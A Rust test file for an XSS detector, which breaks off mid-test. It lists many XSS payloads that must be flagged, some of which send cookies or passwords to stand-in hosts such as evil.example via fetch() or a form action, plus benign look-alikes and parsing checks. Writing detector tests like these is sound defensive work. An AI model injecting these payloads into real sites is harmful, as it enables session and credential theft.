use super::*;
use crate::{Detector, FieldKind, Input, Level};

fn hit(s: &str, level: Level) -> Option<Hit> {
    XssDetector.check(&Input { raw: s, decoded: s, field: FieldKind::QueryValue }, level)
}

fn conf(s: &str) -> u8 {
    let mut steps = 0;
    analyze(s, &mut steps).map_or(0, |f| f.confidence)
}

#[test]
fn attacks_are_detected_at_balanced() {
    let attacks = [
        "<script>alert(1)</script>",
        "<script>",
        "\"><script>",
        "\"><script>KCF</script>",
        "<svg contentScriptType=text/vbs><script>MsgBox 1",
        "x <script>MsgBox 1",
        "<script>alert`1`",
        "<script> location = name </script>",
        "Learn <script> tags; alert(1)",
        "<ScRiPt src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x\nonerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)",
        "<body onpageshow=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\" \u{1}javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<div style=\"width: expression(alert(1))\">",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<base href=\"//evil.example/\">",
        "\" onmouseover=\"alert(1)\" x=\"",
        "' onfocus='alert(1)' autofocus '",
        "\" autofocus onfocus=alert(1) \"",
        "'><script>alert(1)</script>",
        "\"><img src=x onerror=prompt(1)>",
        "';alert(1)//",
        "\";alert(document.cookie);//",
        "\"-alert(1)-\"",
        "'+confirm(1)+'",
        "\\';alert(1);//",
        "</script><script>alert(1)</script>",
        "${alert(1)}",
        "`${fetch('//evil.example/'+document.cookie)}`",
        "javascript:alert(1)",
        "JaVaScRiPt:eval(atob('YWxlcnQoMSk='))",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "alert(1)",
        "'-top['al'+'ert'](1)-'",
        "<x onclick=alert(1)>click",
        "<img src=x onerror=alert(1)//",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<template><img src=x onerror=alert(1)></template>",
    ];
    for a in attacks {
        let h = hit(a, Level::Balanced);
        assert!(h.is_some(), "missed {a:?} (confidence {})", conf(a));
        let h = h.unwrap();
        assert_eq!(h.detector, "xss");
        assert_eq!(h.category, Category::Xss);
        assert!(h.fragment.len() <= 64);
    }
}

#[test]
fn benign_html_ish_text_is_not_blocked() {
    let benign = [
        "a < b and c > d",
        "Learn <script> tags in HTML",
        "What does <script> do?",
        "<3",
        "I <3 you",
        "x<y",
        "if (a < b) { return a; }",
        "for (let i = 0; i < n; i++) { sum += i; }",
        "<john@example.com>",
        "John Doe <john@example.com>",
        "**bold** and _italic_ and `code`",
        "[link](https://example.com/page?a=1)",
        "# Heading\n\n- item 1\n- item 2",
        "<b>bold</b> and <i>italic</i>",
        "<a href=\"https://example.com/\">example</a>",
        "<p class=\"note\">Hello</p>",
        "<img src=\"/images/cat.png\" alt=\"A cat\">",
        "He said \"hello\"; then left",
        "It's John's book",
        "online",
        "onion rings",
        "onset of symptoms",
        "Please confirm your e-mail address",
        "Don't forget to confirm (you'll get a mail)",
        "the alert level is high",
        "javascript is fun",
        "I love JavaScript: it's weird",
        "https://example.com/?q=a+b&c=d",
        "price: 10 EUR",
        "x = y + 1;",
        "function add(a, b) { return a + b; }",
        "console.log('hello')",
        "=SUM(A1:A3)",
        "Tom & Jerry",
        "AT&T",
        "5 > 3",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
        "{\"key\": \"value\", \"n\": [1, 2, 3]}",
        "C:\\Program Files\\App",
        "<!-- a comment -->",
        "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>",
        "<input type=\"password\" name=\"pw\">",
    ];
    for b in benign {
        assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
    }
}

#[test]
fn schemes_are_resolved_like_browsers() {
    use html::{scheme, Scheme};
    assert_eq!(scheme("  javascript:x"), Some(Scheme::Script));
    assert_eq!(scheme("java\tscript:x"), Some(Scheme::Script));
    assert_eq!(scheme("\u{1}VBScript:x"), Some(Scheme::Script));
    assert_eq!(scheme("data:text/html,x"), Some(Scheme::DataHtml));
    assert_eq!(scheme("https://x"), None);
    assert_eq!(html::decode_entities("&#x6A;&#97&colon;"), "ja:");
}

fn steps_for(s: &str) -> usize {
    let mut steps = 0;
    let _ = analyze(s, &mut steps);
    steps
}

#[test]
fn pathological_inputs_stay_linear() {
    let n = 1 << 20;
    let cases: Vec<String> = vec![
        "'".repeat(n),
        "\"".repeat(n),
        "<".repeat(n),
        "<a ".repeat(n / 3),
        "<a b=\"".repeat(n / 6),
        "<style>".repeat(n / 7),
        "(".repeat(100_000),
        "${".repeat(n / 2),
        "['".repeat(n / 2),
        "top[".repeat(n / 4),
        "alert".repeat(n / 5),
        "prompt".repeat(n / 6),
        "&#".repeat(n / 2),
        "<!--".repeat(n / 4),
        "javascript:".repeat(n / 11),
        "on".repeat(n / 2),
        "%3C".repeat(n / 3),
        "+ADw-".repeat(n / 5),
    ];
    for c in &cases {
        let steps = steps_for(c);
        assert!(steps <= 60 * c.len() + 1000, "{} steps for {} bytes starting {:?}", steps, c.len(), &c[..8]);
        let _ = hit(c, Level::Strict);
    }
}

#[test]
fn odd_bytes_do_not_panic() {
    for s in ["<", "<a", "<a b", "<a b=", "<a b='", "&#", "&#x", "&#99999999999;", "<\u{0}>", "<é onload=x>", "¼script¾", "'\u{10ffff}"] {
        let _ = hit(s, Level::Strict);
    }
}

#[test]
fn markup_that_runs_or_rewires_without_an_on_attribute() {
    // Written for this detector (html5sec-style vectors rebuilt, not copied from a corpus).
    let attacks = [
        "<scr\\0ipt src=//evil.example/a.js></script>",
        "<SCR\u{0}IPT>alert(1)</SCRIPT>",
        "<META CHARSET=\"UTF-7\">",
        "<meta charset=x-imap4-modified-utf7>",
        "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?><r/>",
        "<svg><set attributeName=\"xlink:href\" to=\"//evil.example/phish\"/></svg>",
        "<svg><a><animate attributeName=href to=//evil.example/ /></a></svg>",
        "<listener event=\"click\" handler=\"#run\" xmlns=\"http://www.w3.org/2001/xml-events\"/>",
        "<b xmlns:e=\"http://www.w3.org/2001/xml-events\" e:event=\"load\" e:handler=\"#h\">x</b>",
        "<ilayer src=\"//evil.example/p.html\"></ilayer>",
        "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"></form>",
        "<button formaction=//evil.example/x>Sign in</button>",
        "\"}]</script>",
        "';</script>",
        // Context breaks and obfuscations the tokenizer already reads.
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\"javas&Tab;cript:alert(1)\">x</a>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "</script><svg onload=alert(1)>",
        "'-alert(1)-'",
        "\";alert(1)//",
        "<input value=x autofocus onfocus=alert(1)>",
    ];
    for a in attacks {
        assert!(hit(a, Level::Balanced).is_some(), "missed {a:?} (confidence {})", conf(a));
    }
    let benign = [
        "Use </script> to close a script element",
        "</script>",
        "<meta charset=\"utf-8\">",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>7</id></order>",
        "<svg><set attributeName=\"fill\" to=\"red\"/><animate attributeName=\"x\" from=\"0\" to=\"10\"/></svg>",
        "<ul><li>scr\\0ipt</li></ul>",
        "See https://www.w3.org/2001/xml-events for the spec",
        "<layer> is an old Netscape element",
    ];
    for b in benign {
        assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
    }
}

#[test]
fn nul_names_and_processing_instructions_stay_linear() {
    let n = 1 << 20;
    for c in
        ["<scr\\0".repeat(n / 6), "<?xml-stylesheet ".repeat(n / 17), "'</script>".repeat(n / 10), "<x xmlns=w3.org/2001/xml-events handler ".repeat(n / 40)]
    {
        let steps = steps_for(&c);
        assert!(steps <= 60 * c.len() + 1000, "{} steps for {} bytes starting {:?}", steps, c.len(), &c[..8]);
    }
}

#[test]
fn code_that_shows_a_dialog_is_not_an_injection() {
    for b in [
        "if (x) { alert('saved'); }",
        "function done() { confirm(\"Leave?\"); }",
        "for (const e of errors) { alert(e.message) }",
        "Use the <code>fetch()</code> API",
        "call <kbd>alert(1)</kbd> in the console",
    ] {
        assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
    }
    // The same call after a breakout, or as the whole value, is still reported.
    for a in [
        "x'){alert(1)}//",
        "\"}); alert(1); if (a) {//",
        "alert(1)",
        "});alert(1);//",
        "<code onmouseover=alert(1)>x</code>",
        "</code><script>alert(1)</script>",
    ] {
        assert!(hit(a, Level::Balanced).is_some(), "missed {a:?} (confidence {})", conf(a));
    }
}

#[test]
fn named_entity_agrees_with_the_list() {
    // The search `decode_entities` did before the `match`: the first name of the list that
    // `rest` starts with (ASCII case-insensitive).
    let linear = |rest: &[u8]| html::NAMED.iter().find(|(n, _)| rest.len() >= n.len() && rest[..n.len()].eq_ignore_ascii_case(n)).map(|(n, c)| (*c, n.len()));
    let mut rests: Vec<String> = Vec::new();
    for (n, _) in html::NAMED {
        let n = std::str::from_utf8(n).unwrap();
        let word = &n[..n.len() - 1];
        for v in [n.to_string(), n.to_ascii_uppercase(), format!("{n}x"), word.to_string(), format!("{word}x;"), format!("x{n}"), format!("{word} ;")] {
            rests.push(v);
        }
    }
    rests.extend(["", ";", "ldquo;", "rsquo;t", "amp", "ampx;", "lt;script", "NewLine;", "newlinex;", "é;", "#60;"].map(String::from));
    for r in &rests {
        assert_eq!(html::named_entity(r.as_bytes()), linear(r.as_bytes()), "{r:?}");
    }
}

#[test]
fn fullwidth_markup_typed_as_such_is_folded() {
    // Written for this view, not taken from a corpus: NFKC or best-fit folding makes these ASCII.
    for v in [
        "＜script＞alert(1)＜/script＞",
        "＜ｓｃｒｉｐｔ＞alert(document.domain)＜／ｓｃｒｉｐｔ＞",
        "＜img src=x onerror=alert(1)＞",
        "＜svg／onload＝alert(1)＞",
        "x＂ onmouseover＝＂alert(1)",
    ] {
        assert!(conf(v) >= 60, "{v}: {}", conf(v));
    }
    // CJK text with fullwidth brackets, parentheses and quotes.
    for v in [
        "＜お知らせ＞年末年始の営業について",
        "【重要】＜ご案内＞（２０２４年１２月）",
        "「テスト」（ｔｅｓｔ）と＂引用＂",
        "価格＜１０００円＞",
        "＜ｂ＞太字＜／ｂ＞のテスト",
        "他说：＂你好＂（ｎｉ ｈａｏ）",
        "１＜２ かつ ３＞２",
    ] {
        assert!(conf(v) < 40, "{v}: {}", conf(v));
    }
}

#[test]
fn javascript_entities_with_a_sink_are_script() {
    // Written for this rule, not taken from a corpus.
    for v in ["&{alert(1)};", "x&{document.cookie='a=b'};", "<b title=\"&{prompt(document.domain)};\">", "&{ window['al'+'ert'](1) };"] {
        assert!(conf(v) >= 60, "{v}: {}", conf(v));
    }
    for v in ["&{()}", "'';!--\"<xss>=&{()}", "Price &{total} due", "a &{b: 1}; c", "&{"] {
        assert!(conf(v) < 60, "{v}: {}", conf(v));
    }
}

#[test]
fn legacy_and_prefixed_event_names_are_handler_names() {
    for v in ["onMediaComplete", "onundo", "onRedo", "onmozfullscreenchange", "onvisibilitychange", "oncompositionend"] {
        assert_eq!(conf(v), HANDLER_NAME_CONFIDENCE, "{v}");
    }
    for v in ["online", "onion", "onset", "ongoing", "onboarding", "onrecord"] {
        assert_eq!(conf(v), 0, "{v}");
    }
    assert!(EVENTS.windows(2).all(|w| w[0] < w[1]));
}

#[test]
fn an_encoded_angle_bracket_alone_is_a_strict_probe() {
    // Encodings written for this rule (not the corpus's list): every reference form, `%XX`,
    // `%uXXXX`, JavaScript escapes.
    for v in ["&lt", "&GT;", "&#62", "&#0062;", "&#x3E", "&#X00003c;", "%3c", "%3E", "%u003C", "\\x3e", "\\u003c", "\\u{3C}", " &lt; "] {
        assert_eq!(conf(v), 45, "{v}");
        assert!(hit(v, Level::Balanced).is_none(), "{v}");
        assert_eq!(hit(v, Level::Strict).map(|h| h.confidence), Some(45), "{v}");
    }
    for v in ["<", ">", "&amp;", "&#61;", "%3D", "\\x3d", "&lt;b&gt;", "&lt;3", "a &lt; b", "%3C%3C", "&#x3c3c;", "\\u003cb"] {
        assert_eq!(conf(v), 0, "{v}");
    }
}

/// What [`analyze`] means, written from the list of views a browser may see of a value
/// rather than from its searches and shortcuts: the best [`analyze_view`] finding (an earlier
/// view wins a tie) over the value itself (or, when it holds nothing, the encoded `<`/`>`
/// probe), then its percent-decoded form, its `+`s read as blanks (a `<` and no blank), its
/// HTML character references decoded (not in a markup document), its 7-bit reading (`¼` `¾`
/// `¢`), its fullwidth forms folded (a fullwidth `<`, `"` or `'` in it) and its UTF-7 reading
/// (`+AD`/`+ad` in it).
fn analyze_every_view(s: &str) -> Option<Finding> {
    let fold = |map: fn(char) -> char| s.chars().map(map).collect::<String>();
    let views = [
        percent_decode(s),
        (s.contains('+') && s.contains('<') && !s.contains(' ')).then(|| s.replace('+', " ")),
        (s.contains('&') && !crate::engine::markup_document(s)).then(|| super::html::decode_entities(s)),
        s.contains(['\u{bc}', '\u{be}']).then(|| {
            fold(|c| match c {
                '\u{bc}' => '<',
                '\u{be}' => '>',
                '\u{a2}' => '"',
                c => c,
            })
        }),
        s.contains(['\u{ff1c}', '\u{ff02}', '\u{ff07}']).then(|| {
            fold(|c| match c {
                '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
                '\u{3000}' => ' ',
                c => c,
            })
        }),
        (s.contains("+AD") || s.contains("+ad")).then(|| {
            [("+ADw-", "<"), ("+AD4-", ">"), ("+ACI-", "\""), ("+adw-", "<"), ("+ad4-", ">"), ("+aci-", "\"")]
                .iter()
                .fold(s.to_string(), |u, (from, to)| u.replace(from, to))
        }),
    ];
    let confidence = |f: &Option<Finding>| f.as_ref().map_or(0, |f| f.confidence);
    let mut best = analyze_view(s, &mut 0);
    if best.is_none() && encoded_angle(s) {
        best = Some(Finding { confidence: 45, why: "encoded `<` or `>` alone (filter probe)", fragment: truncate(s, 64).to_string() });
    }
    for view in views.into_iter().flatten() {
        let f = analyze_view(&view, &mut 0);
        if confidence(&f) > confidence(&best) {
            best = f;
        }
    }
    best
}

fn agrees(s: &str) {
    assert_eq!(analyze(s, &mut 0), analyze_every_view(s), "{s:?}");
}

/// Generated values around `+`, `<`, blanks and UTF-7 markers (bounded, fixed seed).
#[test]
fn analyze_is_the_best_of_every_view_on_generated_values() {
    use palisade_testkit::rng::XorShift64;
    let parts = [
        "+",
        "+AD",
        "+ad",
        "+ADw-",
        "+AD4-",
        "+ACI-",
        "+adw-",
        "+aD",
        "AD",
        "ad",
        "<",
        ">",
        "<script",
        " ",
        "%3C",
        "%2B",
        "&lt;",
        "&ldquo;",
        "&#39;",
        "onload",
        "=",
        "alert(1)",
        "'",
        "\"",
        "(",
        ")",
        "x",
        "Query",
        "\u{bc}",
        "\u{be}",
        "\u{ff1c}",
        "\u{2019}",
        "javascript:",
        "src",
        "/c/l?page=1",
    ];
    let mut rng = XorShift64::new(0x2545_f491_4f6c_dd1d);
    for _ in 0..40_000 {
        let v = rng.joined(&parts, 8);
        agrees(&v);
    }
}

/// Every value of the development corpus (when present), the benign sets and the handwritten
/// attacks, raw and decoded.
#[test]
fn analyze_is_the_best_of_every_view_on_corpus_values() {
    let mut n = 0;
    each_decoded(|_, c| {
        agrees(c);
        n += 1;
    });
    assert!(n > 1000, "{n}");
}

/// `html::decodes_an_entity` is exactly "`decode_entities` changes the text", on generated
/// references (numeric, hex, named in any case, broken ones) and text around them.
#[test]
fn decodes_an_entity_is_decode_entities_changing_the_text() {
    use palisade_testkit::rng::XorShift64;
    let parts = [
        "&", "&#", "&#x", "&#X", "1", "6a", "g", ";", "lt", "LT", "Lt", "colon", "ldquo", "rsquo", "amp", "nbsp", "newline", "x", " ", "#", "\u{e9}", "&amp",
        "&lt;", "&#39;", "&#x3c", "&ldquo;",
    ];
    let mut rng = XorShift64::new(0x9e37_79b9_7f4a_7c15);
    let mut changed = 0;
    for _ in 0..40_000 {
        let v = rng.joined(&parts, 8);
        let d = super::html::decode_entities(&v);
        assert_eq!(super::html::decodes_an_entity(&v), d != v, "{v:?}");
        changed += usize::from(d != v);
    }
    assert!(changed > 1000, "{changed}");
}

/// [`has_sink_anchor`] answers what the automaton it replaced answers, on generated values
/// (the anchors cut, in every case, at every offset and alignment, next to non-ASCII bytes
/// whose `| 0x20` is no letter) and on every corpus value raw and decoded.
#[test]
fn sink_anchor_scan_agrees_with_the_automaton() {
    use palisade_testkit::rng::XorShift64;
    let parts = [
        "document", "DoCuMeNt", "documen", "alert", "ALERT", "aler", "prompt", "Prompt", "promp", "confirm", "CONFIRM", "confir", "d", "a", "p", "c", "D", "A",
        "P", "C", "x", " ", "Query", "\u{c4}", "\u{e4}", "\u{1e0}", "$", "@", "`", "0", "\u{2019}", ".", "&#39;",
    ];
    let mut rng = XorShift64::new(0x51ce_a4c4_0123_4567);
    let (mut yes, mut no) = (0, 0);
    for _ in 0..200_000 {
        let v = rng.joined(&parts, 12);
        let want = SINK_ANCHORS.any(&v);
        assert_eq!(has_sink_anchor(v.as_bytes()), want, "{v:?}");
        yes += usize::from(want);
        no += usize::from(!want);
    }
    assert!(yes > 20_000 && no > 20_000, "{yes} {no}");
    for w in ["document", "alert", "prompt", "confirm"] {
        for pre in 0..20 {
            for post in 0..10 {
                let v = format!("{}{w}{}", "x".repeat(pre), "y".repeat(post));
                assert!(has_sink_anchor(v.as_bytes()), "{v:?}");
                let cut = format!("{}{}{}", "x".repeat(pre), &w[..w.len() - 1], "y".repeat(post));
                assert_eq!(has_sink_anchor(cut.as_bytes()), SINK_ANCHORS.any(&cut), "{cut:?}");
            }
        }
    }
    let mut n = 0;
    each_decoded(|_, c| {
        assert_eq!(has_sink_anchor(c.as_bytes()), SINK_ANCHORS.any(c), "{c:?}");
        n += 1;
    });
    assert!(n > 1000, "{n}");
}

/// The scheme of a URL in an attribute as a browser reads it, written from the rules: leading
/// blanks, controls and quotes skipped, controls anywhere dropped (the URL parser removes tabs
/// and line breaks; browsers skip the other controls before the scheme), ASCII case folded;
/// then the script schemes, and `data:` with a markup type or another.
fn scheme_spec(url: &str) -> Option<html::Scheme> {
    use html::Scheme;
    let t = url.trim_start_matches(|c: char| c <= ' ' || matches!(c, '"' | '\'' | '`'));
    let l: String = t.chars().filter(|&c| c >= ' ').collect::<String>().to_ascii_lowercase();
    if ["javascript:", "vbscript:", "livescript:", "mocha:"].iter().any(|p| l.starts_with(p)) {
        return Some(Scheme::Script);
    }
    let rest = l.strip_prefix("data:")?;
    let markup = ["text/html", "image/svg", "application/xhtml", "text/xml"].iter().any(|p| rest.starts_with(p));
    Some(if markup { Scheme::DataHtml } else { Scheme::Data })
}

/// [`html::scheme`], which stops at the first byte that spells no scheme, answers what the rules
/// ([`scheme_spec`]) answer on generated URLs (schemes cut and in every case, controls, quotes and
/// blanks before and inside them, data types) and on every corpus value raw and decoded.
#[test]
fn scheme_is_the_one_the_rules_read() {
    use palisade_testkit::rng::XorShift64;
    let parts = [
        "javascript:",
        "JaVaScRiPt:",
        "java",
        "script:",
        "vbscript:",
        "vb",
        "livescript:",
        "live",
        "mocha:",
        "MOCHA",
        "data:",
        "DATA:",
        "dat",
        "text/html",
        "image/svg",
        "application/xhtml",
        "text/xml",
        "text/plain",
        "\t",
        "\n",
        "\0",
        " ",
        "\"",
        "'",
        "`",
        "\u{1}",
        ":",
        "a",
        "d",
        "j",
        "m",
        "l",
        "v",
        "Deploy",
        "\u{e9}",
        ",",
        "xyzxyzxyzxyzxyzxyzxyz",
    ];
    let mut rng = XorShift64::new(0x5c4e_3e00_aa55_0f0f);
    let (mut some, mut none) = (0, 0);
    for _ in 0..300_000 {
        let v = rng.joined(&parts, 6);
        let want = scheme_spec(&v);
        assert_eq!(html::scheme(&v), want, "{v:?}");
        some += usize::from(want.is_some());
        none += usize::from(want.is_none());
    }
    assert!(some > 20_000 && none > 20_000, "{some} {none}");
    each_decoded(|_, c| assert_eq!(html::scheme(c), scheme_spec(c), "{c:?}"));
}

/// [`html::attribute_breakout`] returns early (no `=`) only where its general path,
/// [`html::attribute_breakout_from_starts`], finds nothing, and gives that path's finding and
/// work otherwise, on generated
/// values (attribute-like pieces, quotes, blanks, with and without `=`, mutated byte by byte)
/// and on every corpus value raw and decoded.
#[test]
fn attribute_breakout_returns_early_only_where_nothing_is_found() {
    use palisade_testkit::rng::XorShift64;
    let same = |s: &str| {
        let (mut a, mut b) = (Best::default(), Best::default());
        let (mut sa, mut sb) = (0, 0);
        html::attribute_breakout(s, &mut a, &mut sa);
        html::attribute_breakout_from_starts(s, &mut b, &mut sb);
        assert_eq!((a.confidence, a.why, a.at), (b.confidence, b.why, b.at), "{s:?}");
        // Without `=` the early return skips the work (and reports nothing).
        assert!(sa == sb || (sa == 0 && !s.contains('=')), "{s:?}");
    };
    let parts = [
        "\"",
        "'",
        " ",
        "\t",
        "=",
        "onmouseover",
        "onload",
        "alert(1)",
        "style",
        "expression(x)",
        "href",
        "javascript:x",
        "src",
        ">",
        "/",
        "x",
        "&#61;",
        "\u{2019}",
        "Query (i18n)",
    ];
    let mut rng = XorShift64::new(0x0a77_b4ea_5eed_0001);
    for _ in 0..40_000 {
        let v = rng.joined(&parts, 8);
        same(&v);
        // One byte replaced by `=`, a quote or a blank (ASCII: stays UTF-8).
        if !v.is_empty() {
            let mut b = v.clone().into_bytes();
            let at = rng.below(b.len());
            if b[at].is_ascii() {
                b[at] = [b'=', b'"', b'\'', b' '][rng.below(4)];
                same(&String::from_utf8(b).unwrap());
            }
        }
    }
    each_decoded(|v, c| {
        same(v);
        same(c);
    });
}

/// Every value of [`crate::other_util::test_values`] (the corpus when present, our benign and
/// attack sets, the bench bodies' strings) with each of its decoded candidates: `f(value,
/// candidate)`.
fn each_decoded(mut f: impl FnMut(&str, &str)) {
    let mut dec = crate::decode::Decoder::default();
    for v in crate::other_util::test_values() {
        for c in dec.decode(&v).iter() {
            f(&v, c.text);
        }
    }
}

/// What [`handler_name`] means, without its [`handler_like`] pre-filter: the trimmed value is
/// a handler attribute name ([`html::is_handler`], 5 to 40 bytes) of a DOM event listed in
/// [`EVENTS`].
fn handler_name_spec(s: &str, best: &mut Best) {
    let t = s.trim();
    if t.len() < 5 || t.len() > 40 || !html::is_handler(t) {
        return;
    }
    let ev = t[2..].to_ascii_lowercase();
    if EVENTS.binary_search(&ev.as_str()).is_ok() {
        best.add(HANDLER_NAME_CONFIDENCE, "event handler name", 0);
    }
}

/// On generated values made of event names, `on` in every case, blanks (ASCII and Unicode)
/// and other bytes, and on every corpus value.
#[test]
fn handler_name_is_a_listed_event_handler() {
    const PARTS: [&str; 16] = ["on", "ON", "oN", "click", "error", "load", "Mouseover", " ", "\t", "\u{a0}", "\u{2003}", "x", "1", "<", "é", "focus"];
    let mut rng = palisade_testkit::rng::XorShift64::new(0x4a4d_1e5a_0b0e);
    let mut found = 0;
    let check = |v: &str| {
        let (mut a, mut b) = (Best::default(), Best::default());
        handler_name(v, &mut a);
        handler_name_spec(v, &mut b);
        assert_eq!((a.confidence, a.why, a.at), (b.confidence, b.why, b.at), "{v:?}");
        usize::from(b.confidence > 0)
    };
    for _ in 0..100_000 {
        found += check(&rng.joined(&PARTS, 5));
    }
    assert!(found > 1_000, "{found}");
    for v in crate::other_util::test_values() {
        check(&v);
    }
}

/// [`html::NAMED_LENS`] holds the first letter and length of every name of `html::NAMED` (and
/// nothing else), so `named_entity`'s bit test rejects no name of the list.
#[test]
fn named_lens_are_those_of_the_list() {
    let mut t = [0u16; 32];
    for (n, _) in html::NAMED {
        t[(n[0] & 31) as usize] |= 1 << (n.len() - 1);
    }
    assert_eq!(t, html::NAMED_LENS);
}

/// The characters `decode_entities` decodes from references in `v`, by its own loop (the oracle
/// of the `inert` answer of [`html::entity_scan`]).
fn decoded_chars(v: &str) -> Vec<char> {
    let b = v.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'&' {
            if b.get(i + 1) == Some(&b'#') {
                let hexa = matches!(b.get(i + 2), Some(b'x' | b'X'));
                let mut j = i + 2 + usize::from(hexa);
                let ds = j;
                let mut val: u32 = 0;
                while j < b.len() && (if hexa { b[j].is_ascii_hexdigit() } else { b[j].is_ascii_digit() }) {
                    val = val.saturating_mul(if hexa { 16 } else { 10 }).saturating_add((b[j] as char).to_digit(16).unwrap_or(0));
                    j += 1;
                }
                if j > ds {
                    if b.get(j) == Some(&b';') {
                        j += 1;
                    }
                    out.push(char::from_u32(val).unwrap_or('\u{fffd}'));
                    i = j;
                    continue;
                }
            } else if let Some((c, used)) = html::named_entity(&b[i + 1..]) {
                out.push(c);
                i += 1 + used;
                continue;
            }
        }
        i += 1;
    }
    out
}

/// [`html::entity_scan`] against `decode_entities`: `None` exactly when the text is unchanged,
/// else the length of the decoded text and whether every decoded character is inert, on
/// generated references and on every corpus value.
#[test]
fn entity_scan_agrees_with_decode_entities() {
    use palisade_testkit::rng::XorShift64;
    let check = |v: &str| {
        let d = html::decode_entities(v);
        let want = (d != v).then(|| (d.len(), decoded_chars(v).iter().all(|&c| !(c.is_ascii_alphabetic() || matches!(c, '<' | '(' | '`' | '=')))));
        assert_eq!(html::entity_scan(v), want, "{v:?}");
        assert_eq!(html::decodes_an_entity(v), want.is_some(), "{v:?}");
    };
    let parts = [
        "&",
        "&#",
        "&#x",
        "&#X",
        "1",
        "6a",
        "g",
        ";",
        "lt",
        "LT",
        "Lt",
        "colon",
        "ldquo",
        "rsquo",
        "amp",
        "nbsp",
        "newline",
        "x",
        " ",
        "#",
        "\u{e9}",
        "&amp",
        "&lt;",
        "&#39;",
        "&#x3c",
        "&ldquo;",
        "&#128512;",
        "&#99999999999;",
        "&#61",
        "&equals;",
        "&grave;",
        "&#40",
        "&#x2019;",
        "&period;",
        "&#0;",
    ];
    let mut rng = XorShift64::new(0x1234_5678_9abc_def1);
    for _ in 0..40_000 {
        check(&rng.joined(&parts, 8));
    }
    for v in crate::other_util::test_values() {
        check(&v);
    }
}

/// Values with references around the conditions of `decoded_view_is_inert` (first byte,
/// schemes spelled before and through a reference, `=`, sink names cut by a reference, handler
/// names behind a reference): [`analyze`] is [`analyze_every_view`].
#[test]
fn analyze_is_the_best_of_every_view_around_references() {
    use palisade_testkit::rng::XorShift64;
    let parts = [
        "&#39;",
        "&#x27;",
        "&amp;",
        "&quot;",
        "&nbsp;",
        "&#8217;",
        "&ldquo;",
        "&#97;",
        "&#x6C;",
        "&lt;",
        "&#40;",
        "&#96;",
        "&#61;",
        "&equals;",
        "&colon;",
        "&tab;",
        "&#10;",
        "al",
        "ert",
        "doc",
        "ument",
        "java",
        "script:",
        "data:",
        "d",
        "o",
        "on",
        "load",
        "mouseover",
        "Welcome",
        " ",
        "x",
        "'",
        "\"",
        "=",
        "\u{2019}",
        "\t",
        "&",
        "&#",
        "j",
        "v",
        "m",
        "l",
        "ocha:",
        "ivescript:",
        "bscript:",
    ];
    let mut rng = XorShift64::new(0x0ddc_0ffe_e15e_a5e5);
    for _ in 0..60_000 {
        agrees(&rng.joined(&parts, 8));
    }
}

#[test]
fn a_bare_handler_name_is_not_xss() {
    let at = |v: &str, field: FieldKind, level: Level| XssDetector.check(&Input { raw: v, decoded: v, field }, level).map_or(0, |h| h.confidence);
    // An analytics event name, a component's prop, a UI builder's key: data at every level and
    // in every field.
    for v in ["onload", "onClick", "onvisibilitychange", " onmouseover "] {
        for field in [FieldKind::JsonKey, FieldKind::JsonValue, FieldKind::QueryValue, FieldKind::FormValue, FieldKind::Header] {
            assert_eq!(at(v, field, Level::Balanced), 0, "{v} {field:?}");
            assert_eq!(at(v, field, Level::Strict), 0, "{v} {field:?}");
        }
    }
    // With an `=` and code, or in a tag, it is a handler: script wherever it is.
    for v in ["<img src=x onload=alert(1)>", "\" onload=\"alert(1)", "' onfocus='alert(document.domain)' autofocus='"] {
        for field in [FieldKind::JsonKey, FieldKind::JsonValue, FieldKind::QueryValue] {
            assert!(at(v, field, Level::Balanced) >= 60, "{v} {field:?}");
        }
    }
}

#[test]
fn calls_without_parentheses_and_computed_properties_are_sinks() {
    // Written for this rule: optional calls, computed `document` properties, tagged templates.
    for v in [
        "alert?.(1)",
        "x=1;confirm?.(document.domain)//",
        "\";alert?.(1);//",
        "x=document['cookie'];",
        "';fetch('//e.example/?'+document[`cookie`])//",
        "alert`1`",
    ] {
        assert!(conf(v) >= 60, "{v}: {}", conf(v));
    }
    // Computed or dotted, the same property.
    for (a, b) in [
        ("document[\"cookie\"]", "document.cookie"),
        ("x=document['domain'];", "x=document.domain;"),
